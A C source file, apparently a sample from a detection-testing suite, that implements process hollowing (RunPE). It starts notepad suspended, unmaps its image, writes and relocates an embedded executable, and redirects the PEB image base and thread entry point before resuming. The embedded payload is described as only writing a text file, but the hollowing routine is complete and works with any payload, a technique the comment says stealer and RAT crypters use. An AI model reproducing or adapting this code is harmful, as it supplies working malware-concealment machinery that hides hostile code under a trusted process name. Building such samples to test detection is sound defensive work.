/* process_hollowing — RunPE (ATT&CK T1055.012): start a legitimate program suspended, unmap its
 * image (NtUnmapViewOfSection), write another program in its place (VirtualAllocEx,
 * WriteProcessMemory, relocated for its new base), point the PEB's ImageBaseAddress and the
 * thread's start address (RCX on x64, EAX on x86, via SetThreadContext) at it, and resume. The
 * process keeps notepad's name while running different code. Crypters of commodity stealers and
 * RATs use it constantly.
 *
 * Harmless: the host is a notepad.exe this sample starts itself, and the program put inside is
 * hollow_payload.<arch>.exe (payload.c), embedded here with .incbin, which only writes
 * %TEMP%\mamori-sample\process_hollowing.txt. */
#include "pe.h"
#include "sample.h"
#include "spawn.h"

#ifdef _WIN64
#define SYM(x) #x
#define PAYLOAD_FILE "hollow_payload.x64.exe"
#define PEB_IMAGE_BASE 0x10 /* offsetof(PEB, ImageBaseAddress) */
#else
#define SYM(x) "_" #x
#define PAYLOAD_FILE "hollow_payload.x86.exe"
#define PEB_IMAGE_BASE 0x08
#endif

__asm__(".section .rdata,\"dr\"\n"
        ".balign 16\n"
        ".globl " SYM(payload_image) "\n" SYM(payload_image) ":\n"
        ".incbin \"" PAYLOAD_FILE "\"\n"
        ".globl " SYM(payload_image_end) "\n" SYM(payload_image_end) ":\n"
        ".text\n");
extern const unsigned char payload_image[], payload_image_end[];

typedef LONG(NTAPI *NtUnmapViewOfSectionFn)(HANDLE, PVOID);
typedef LONG(NTAPI *NtQueryInformationProcessFn)(HANDLE, ULONG, PVOID, ULONG, PULONG);
typedef struct BasicInfo { /* PROCESS_BASIC_INFORMATION */
  PVOID ExitStatus;
  PVOID PebBaseAddress;
  PVOID Reserved[2];
  ULONG_PTR UniqueProcessId;
  PVOID InheritedFrom;
} BasicInfo;

static int hollow(PROCESS_INFORMATION *pi) {
  HMODULE ntdll = GetModuleHandleA("ntdll.dll");
  NtUnmapViewOfSectionFn unmap = (void *)GetProcAddress(ntdll, "NtUnmapViewOfSection");
  NtQueryInformationProcessFn query = (void *)GetProcAddress(ntdll, "NtQueryInformationProcess");
  if (!unmap || !query) return 10;

  /* where the target's image is: PEB->ImageBaseAddress */
  BasicInfo info;
  if (query(pi->hProcess, 0 /* ProcessBasicInformation */, &info, sizeof info, NULL) != 0) return 11;
  unsigned char *peb = info.PebBaseAddress;
  PVOID target_base = NULL;
  if (!ReadProcessMemory(pi->hProcess, peb + PEB_IMAGE_BASE, &target_base, sizeof target_base,
                         NULL))
    return 12;

  /* hollow it out */
  unmap(pi->hProcess, target_base);

  /* room for our image: at its preferred base if possible, anywhere otherwise */
  SIZE_T file_size = (SIZE_T)(payload_image_end - payload_image);
  IMAGE_NT_HEADERS *nt = pe_nt(payload_image, file_size);
  if (!nt) return 13;
  SIZE_T image_size = nt->OptionalHeader.SizeOfImage;
  unsigned char *remote = VirtualAllocEx(pi->hProcess, (PVOID)nt->OptionalHeader.ImageBase,
                                         image_size, MEM_COMMIT | MEM_RESERVE,
                                         PAGE_EXECUTE_READWRITE);
  if (!remote)
    remote = VirtualAllocEx(pi->hProcess, NULL, image_size, MEM_COMMIT | MEM_RESERVE,
                            PAGE_EXECUTE_READWRITE);
  if (!remote) return 14;

  /* lay the image out here, relocate it for its remote base, and write it over */
  unsigned char *local = VirtualAlloc(NULL, image_size, MEM_COMMIT | MEM_RESERVE, PAGE_READWRITE);
  if (!local) return 15;
  int rc = 0;
  if (!pe_layout(payload_image, file_size, local) || !pe_relocate(local, (ULONG_PTR)remote))
    rc = 16;
  else if (!WriteProcessMemory(pi->hProcess, remote, local, image_size, NULL) ||
           !WriteProcessMemory(pi->hProcess, peb + PEB_IMAGE_BASE, &remote, sizeof remote, NULL))
    rc = 17;
  DWORD entry_rva = pe_nt(local, image_size)->OptionalHeader.AddressOfEntryPoint;
  VirtualFree(local, 0, MEM_RELEASE);
  if (rc) return rc;

  /* the initial thread starts at RtlUserThreadStart(entry); change the entry it will call */
  CONTEXT ctx;
  ZeroMemory(&ctx, sizeof ctx);
  ctx.ContextFlags = CONTEXT_FULL;
  if (!GetThreadContext(pi->hThread, &ctx)) return 18;
#ifdef _WIN64
  ctx.Rcx = (DWORD64)(remote + entry_rva);
#else
  ctx.Eax = (DWORD)(remote + entry_rva);
#endif
  if (!SetThreadContext(pi->hThread, &ctx)) return 19;
  ResumeThread(pi->hThread);
  return WaitForSingleObject(pi->hProcess, 10000) == WAIT_OBJECT_0 ? 0 : 20;
}

int main(void) {
  PROCESS_INFORMATION pi;
  if (!spawn_suspended_notepad(&pi)) return 1;
  int rc = hollow(&pi);
  if (rc != 0) TerminateProcess(pi.hProcess, 1); /* only the notepad we started */
  CloseHandle(pi.hThread);
  CloseHandle(pi.hProcess);
  return rc;
}
